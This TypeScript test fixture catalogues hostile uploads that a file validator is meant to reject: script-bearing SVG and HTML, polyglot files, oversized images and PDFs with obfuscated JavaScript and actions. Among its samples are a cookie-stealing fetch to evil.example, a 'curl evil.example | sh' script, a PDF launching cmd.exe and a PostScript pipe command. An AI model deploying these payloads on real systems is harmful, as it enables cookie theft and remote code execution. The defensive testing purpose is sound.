import { deflateSync } from 'node:zlib'
import { type FileType, uploadTerms } from '@/validators/upload-terms'
import type { FileFault } from '../inspect-file'
import {
  harmlessPdf,
  harmlessPng,
  pdfOf,
  pdfWith,
  pngChunk,
  pngOf,
  samplePhoto,
  streamOf,
} from './sample-files'

/** A file that must not be accepted as the type it claims to be, and its expected fault. */
export type HostileFile = {
  readonly name: string
  readonly claimed: FileType
  readonly bytes: () => Buffer
  readonly fault: FileFault
}

const text = (content: string) => () => Buffer.from(content)
const after = (bytes: Buffer, tail: string | Buffer) =>
  Buffer.concat([bytes, typeof tail === 'string' ? Buffer.from(tail) : tail])

const html = '<!doctype html><script>fetch("//evil.example/"+document.cookie)</script>'
const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>'
const { maxBytes } = uploadTerms.company_document

const wrong = (name: string, claimed: FileType, bytes: () => Buffer): HostileFile => ({
  name,
  claimed,
  bytes,
  fault: 'file_type_wrong',
})
const pdf = (name: string, bytes: () => Buffer, fault: FileFault = 'pdf_active'): HostileFile => ({
  name,
  claimed: 'application/pdf',
  bytes,
  fault,
})
const picture = (
  name: string,
  claimed: FileType,
  bytes: () => Buffer,
  fault: FileFault = 'picture_unreadable',
): HostileFile => ({ name, claimed, bytes, fault })

/** An object stream whose objects follow its header of numbers. */
const objectStream = (objects: string, dictionary = '') =>
  streamOf(`9 0 ${objects}`, `/Type/ObjStm/N 1/First 4${dictionary}`)

/** The first half of a valid file. */
const cut = (bytes: Buffer) => bytes.subarray(0, Math.floor(bytes.length / 2))

/** A JPEG whose header declares more pixels than it has. */
function giantJpeg(): Buffer {
  const photo = Buffer.from(samplePhoto('jpg'))
  const frame = photo.findIndex((byte, at) => byte === 0xff && [0xc0, 0xc2].includes(photo[at + 1] ?? 0))
  photo.writeUInt16BE(65_500, frame + 5)
  photo.writeUInt16BE(65_500, frame + 7)
  return photo
}

function giantWebp(): Buffer {
  const head = Buffer.alloc(10)
  head.writeUIntLE(16_383, 4, 3)
  head.writeUIntLE(16_383, 7, 3)
  const chunk = (name: string, content: Buffer) => {
    const size = Buffer.alloc(4)
    size.writeUInt32LE(content.length)
    return Buffer.concat([Buffer.from(name), size, content])
  }
  const chunks = Buffer.concat([Buffer.from('WEBP'), chunk('VP8X', head), chunk('VP8 ', Buffer.alloc(20))])
  return Buffer.concat([chunk('RIFF', chunks)])
}

/** A photo's segments without its compressed pixels, with or without the start-of-scan header. */
function jpegWithoutPixels(hasScan: boolean): Buffer {
  const photo = samplePhoto('jpg')
  let at = 2
  while (photo[at + 1] !== 0xda) at += 2 + photo.readUInt16BE(at + 2)
  const end = hasScan ? at + 2 + photo.readUInt16BE(at + 2) : at
  return Buffer.concat([photo.subarray(0, end), Buffer.from([0xff, 0xd9])])
}

function pngWithoutPixels(...chunks: readonly Buffer[]): Buffer {
  const whole = pngOf(8, 8)
  return Buffer.concat([whole.subarray(0, 33), ...chunks, pngChunk('IEND', Buffer.alloc(0))])
}

function webpWithoutPixels(): Buffer {
  const head = Buffer.from('WEBPVP8X\x0a\0\0\0\0\0\0\0\x07\0\0\x07\0\0', 'latin1')
  const size = Buffer.alloc(4)
  size.writeUInt32LE(head.length)
  return Buffer.concat([Buffer.from('RIFF'), size, head])
}

/** Attacks that are known from elsewhere. Each file is refused as a company's document. */
export const hostileFiles: readonly HostileFile[] = [
  wrong('script in an SVG, as it is', 'image/png', text(svg)),
  wrong('script in an SVG called a photo.jpg', 'image/jpeg', text(svg)),
  wrong('SVG behind an XML declaration', 'image/webp', text(`<?xml version="1.0"?>${svg}`)),
  wrong('page called logo.png', 'image/png', text(html)),
  wrong('page called certificate.pdf', 'application/pdf', text(html)),
  wrong('page in front of a PDF', 'application/pdf', () => after(Buffer.from(html), harmlessPdf())),
  wrong('blank in front of a PDF', 'application/pdf', () => after(Buffer.from(' '), harmlessPdf())),
  wrong('double extension: card.png.exe', 'image/png', () =>
    after(Buffer.from('MZ\x90\0'), Buffer.alloc(64)),
  ),
  wrong('double extension: certificate.pdf.html', 'application/pdf', text(html)),
  wrong('archive called certificate.pdf', 'application/pdf', () =>
    Buffer.from('PK\x03\x04 word/document.xml'),
  ),
  wrong('shell script called card.jpg', 'image/jpeg', text('#!/bin/sh\ncurl evil.example | sh\n')),
  wrong('PNG sent as a JPEG', 'image/jpeg', harmlessPng),
  wrong('JPEG sent as a PDF', 'application/pdf', () => samplePhoto('jpg')),
  wrong('PDF sent as a PNG', 'image/png', harmlessPdf),
  wrong('GIF with a page in it', 'image/png', text(`GIF89a/*${html}*/=1`)),
  wrong('bitmap that is a script', 'image/jpeg', () => Buffer.from('BM=1;/*\0\0\0\0*/alert(1)')),
  wrong('text with a byte order mark', 'image/webp', text('﻿RIFFWEBP')),
  { name: 'zero bytes', claimed: 'image/png', bytes: () => Buffer.alloc(0), fault: 'file_empty' },
  {
    name: 'one byte too large',
    claimed: 'application/pdf',
    bytes: () => after(harmlessPdf(), Buffer.alloc(maxBytes + 1 - harmlessPdf().length, ' ')),
    fault: 'file_too_large',
  },
  picture('PNG that ends in the middle', 'image/png', () => cut(pngOf(64, 64))),
  picture('JPEG that ends in the middle', 'image/jpeg', () => cut(samplePhoto('jpg'))),
  picture('WebP that ends in the middle', 'image/webp', () => cut(samplePhoto('webp'))),
  picture('PNG of a signature alone', 'image/png', () => harmlessPng().subarray(0, 8)),
  picture('JPEG of three bytes', 'image/jpeg', () => Buffer.from([0xff, 0xd8, 0xff])),
  picture('PNG without pixels', 'image/png', () => pngOf(0, 8)),
  picture('JPEG with a frame and no scan', 'image/jpeg', () => jpegWithoutPixels(false)),
  picture('JPEG with nothing in its scan', 'image/jpeg', () => jpegWithoutPixels(true)),
  picture('PNG with a head and no data', 'image/png', () => pngWithoutPixels()),
  picture('PNG with nothing in its data', 'image/png', () =>
    pngWithoutPixels(pngChunk('IDAT', Buffer.alloc(0))),
  ),
  picture('WebP with a canvas and no pixels', 'image/webp', webpWithoutPixels),
  picture('page behind the first bytes of a JPEG', 'image/jpeg', () =>
    after(Buffer.from([0xff, 0xd8, 0xff, 0xe0]), html),
  ),
  picture(
    'PNG of 60,000 × 60,000 pixels',
    'image/png',
    () => pngOf(60_000, 60_000),
    'picture_too_many_pixels',
  ),
  picture(
    'PNG of one line, 2,000,000,000 pixels long',
    'image/png',
    () => pngOf(2_000_000_000, 1),
    'picture_too_many_pixels',
  ),
  picture('JPEG of 65,500 × 65,500 pixels', 'image/jpeg', giantJpeg, 'picture_too_many_pixels'),
  picture('WebP of 16,384 × 16,384 pixels', 'image/webp', giantWebp, 'picture_too_many_pixels'),
  pdf('PDF with a script to begin with', () => pdfWith(`/OpenAction${script}`)),
  pdf('PDF with a script somewhere', () => pdfWith('', [script])),
  pdf('PDF whose script is spelt in codes', () =>
    pdfWith('', ['<</S/J#61vaScr#69pt/#4a#53(app.alert\\(1\\))>>']),
  ),
  pdf('PDF with a script in an object stream', () => pdfWith('', [objectStream(script)])),
  pdf('PDF whose object stream does not say so', () =>
    pdfWith('', [streamOf(`9 0 ${script}`, '/Type 7 0 R')]),
  ),
  pdf('PDF with an object stream that is not folded', () =>
    pdfWith('', [streamOf(`9 0 ${script}`, '/Type/ObjStm/N 1/First 4', false)]),
  ),
  pdf('PDF that starts a program', () => pdfWith('/OpenAction 5 0 R', ['<</S/Launch/F(cmd.exe)>>'])),
  pdf('PDF with an action of its pages', () =>
    pdfWith('/AA<</WC 5 0 R>>', ['<</S/URI/URI(https://evil.example)>>']),
  ),
  pdf('PDF that opens an address by itself', () =>
    pdfWith('/OpenAction<</S/URI/URI(https://evil.example)>>'),
  ),
  pdf('PDF whose first action is somewhere else', () => pdfWith('/OpenAction 5 0 R', ['<</S/URI/URI(x)>>'])),
  pdf(
    'PDF with a file in it',
    () => pdfWith('/Names<</EmbeddedFiles 5 0 R>>', [streamOf('MZ', '/Type/EmbeddedFile')]),
    'pdf_attached',
  ),
  pdf('PDF with rich media', () => pdfWith('', ['<</Subtype/RichMedia/RichMediaContent 6 0 R>>'])),
  pdf('PDF with an XFA form', () => pdfWith('/AcroForm<</XFA 5 0 R>>', [streamOf('<xdp:xdp/>')])),
  pdf('PDF that sends a form away', () => pdfWith('', ['<</S/SubmitForm/F(https://evil.example)>>'])),
  pdf('PDF whose rich media is set up by itself', () => pdfWith('', ['<</Type/3D/OnInstantiate 6 0 R>>'])),
  pdf('PDF that gives an order to rich media', () =>
    pdfWith('', ['<</S/RichMediaExecute/TA 6 0 R/CMD<</C(go)>>>>']),
  ),
  pdf('PDF that goes to a thread of another file', () =>
    pdfWith('', ['<</S/Thread/F(//evil.example/x)/D 0>>']),
  ),
  pdf('PDF that goes to a thread, its name in codes behind a blank', () =>
    pdfWith('', ['<</S /Thre#61d/D 0>>']),
  ),
  pdf('PDF that goes to a thread, a comment before its name', () =>
    pdfWith('', ['<</S % a note\n /Thread/D 0>>']),
  ),
  pdf(
    'PDF with a paper clip',
    () => pdfWith('', ['<</Type/Annot/Subtype/FileAttachment/FS 6 0 R>>']),
    'pdf_attached',
  ),
  pdf('PDF that shows a page of another file', () =>
    pdfWith('', [streamOf('', '/Subtype/Form/BBox[0 0 1 1]/Ref<</F(//evil.example/x.pdf)/Page 0>>')]),
  ),
  pdf('PDF that shows a page of a file named elsewhere', () =>
    pdfWith('', [streamOf('', '/Subtype/Form/BBox[0 0 1 1]/R#65f 6 0 R'), '<</F 7 0 R/Page 0>>']),
  ),
  pdf('PDF with a film of another file', () =>
    pdfWith('', ['<</Type/MediaClip/S/MCD/D(//evil.example/x)>>']),
  ),
  pdf('PDF with a film of no type', () => pdfWith('', ['<</N(film)/S/MCD/D 6 0 R>>'])),
  pdf('PDF with a program of PostScript', () =>
    pdfWith('', [streamOf('(%pipe%id) (r) file', '/Type/XObject/Subtype/PS')]),
  ),
  pdf('PDF with a program of PostScript in a form', () =>
    pdfWith('', [streamOf('', '/Subtype/Form/BBox[0 0 1 1]/Subtype2 /PS')]),
  ),
  pdf('PDF with a script behind a link', () => pdfWith('', ['<</S/URI/URI(javascript:app.alert\\(1\\))>>'])),
  pdf('PDF with a script behind a link, spelt with blanks and capitals', () =>
    pdfWith('', ['<</S/URI/URI( Java\\\nScript\\072 alert\\(1\\))>>']),
  ),
  pdf('PDF with a script behind a link in hexadecimal', () =>
    pdfWith('', ['<</S/URI/UR#49 <6A6176 6173 6372697074 3A61>>>']),
  ),
  pdf('PDF with a script behind a link in two bytes a letter', () =>
    pdfWith('', ['<</S/URI/URI<FEFF006A006100760061007300630072006900700074003A>>>']),
  ),
  pdf('PDF with a script behind a link whose address is elsewhere', () =>
    pdfWith('', ['<</S/URI/URI 6 0 R>>', '(javascript:alert\\(1\\))']),
  ),
  pdf('PDF with a script behind a link in an object stream', () =>
    pdfWith('', [objectStream('<</S/URI/URI(javascript:alert\\(1\\))>>')]),
  ),
  pdf('PDF that opens an address from a list', () =>
    pdfWith('/OpenAction [ <</S/URI/URI(https://evil.example)>> ]'),
  ),
  pdf('PDF that opens an address from a list, behind a comment', () =>
    pdfWith('/OpenAction[ % 3 0 R\n<</S/URI/URI(https://evil.example)>>]'),
  ),
  pdf('PDF with a thread behind more comments than one reads', () =>
    pdfWith('', [`<</S${'% a\n'.repeat(9)}/Thread/D 0>>`]),
  ),
  pdf('PDF that begins with a list elsewhere in a list', () => pdfWith('/OpenAction[[5 0 R]]')),
  pdf('PDF with an object behind a comment that looks like a stream', () =>
    pdfOf([
      '<</Type/Catalog/Filter/FlateDecode>>\n% stream\n9 0 obj <</JS(app.alert\\(1\\))>> endobj\n% endstream',
    ]),
  ),
  pdf('PDF with an object after the pixels of a picture', () =>
    pdfWith('', [streamOf(`pixels\nendobj 9 0 obj ${script} endobj`, '/Filter/DCTDecode', false)]),
  ),
  pdf('PDF that is locked', () => pdfWith('', ['<</Filter/Standard/V 4>>'], '/Encrypt 5 0 R'), 'pdf_locked'),
  pdf('PDF with a page behind its end', () => after(harmlessPdf(), html), 'pdf_unreadable'),
  pdf(
    'PDF that is an archive as well',
    () => after(harmlessPdf(), 'PK\x05\x06'.padEnd(22, '\0')),
    'pdf_unreadable',
  ),
  pdf('PDF that ends in the middle', () => cut(harmlessPdf()), 'pdf_unreadable'),
  pdf('PDF of a first line', text('%PDF-1.7\n'), 'pdf_unreadable'),
  pdf(
    'PDF whose object stream unfolds to 64 MB',
    () => pdfWith('', [streamOf(Buffer.alloc(64 * 1024 * 1024, ' '), '/Type/ObjStm/N 1/First 4')]),
    'pdf_unreadable',
  ),
  pdf(
    'PDF whose object stream is folded in an unusual way',
    () => pdfWith('', [streamOf(`9 0 ${script}`, '/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode', false)]),
    'pdf_unreadable',
  ),
]

/** Pictures with additional content, which must not be in the stored copy. */
export const loadedPictures: readonly { name: string; type: FileType; bytes: () => Buffer }[] = [
  { name: 'PNG with a page behind its end', type: 'image/png', bytes: () => after(harmlessPng(), html) },
  {
    name: 'PNG with a page in a text chunk',
    type: 'image/png',
    bytes: () => pngOf(8, 8, [pngChunk('tEXt', Buffer.from(html))]),
  },
  {
    name: 'PNG with a folded page in a text chunk',
    type: 'image/png',
    bytes: () => pngOf(8, 8, [pngChunk('zTXt', Buffer.concat([Buffer.from('a\0\0'), deflateSync(html)]))]),
  },
  {
    name: 'JPEG with an archive behind its end',
    type: 'image/jpeg',
    bytes: () => after(samplePhoto('jpg'), `PK\x03\x04${html}`),
  },
  {
    name: 'WebP with a PDF behind its end',
    type: 'image/webp',
    bytes: () => after(samplePhoto('webp'), Buffer.concat([harmlessPdf(), Buffer.from(html)])),
  },
  { name: 'JPEG that says where it was taken', type: 'image/jpeg', bytes: () => samplePhoto('jpg') },
  { name: 'WebP that says where it was taken', type: 'image/webp', bytes: () => samplePhoto('webp') },
]
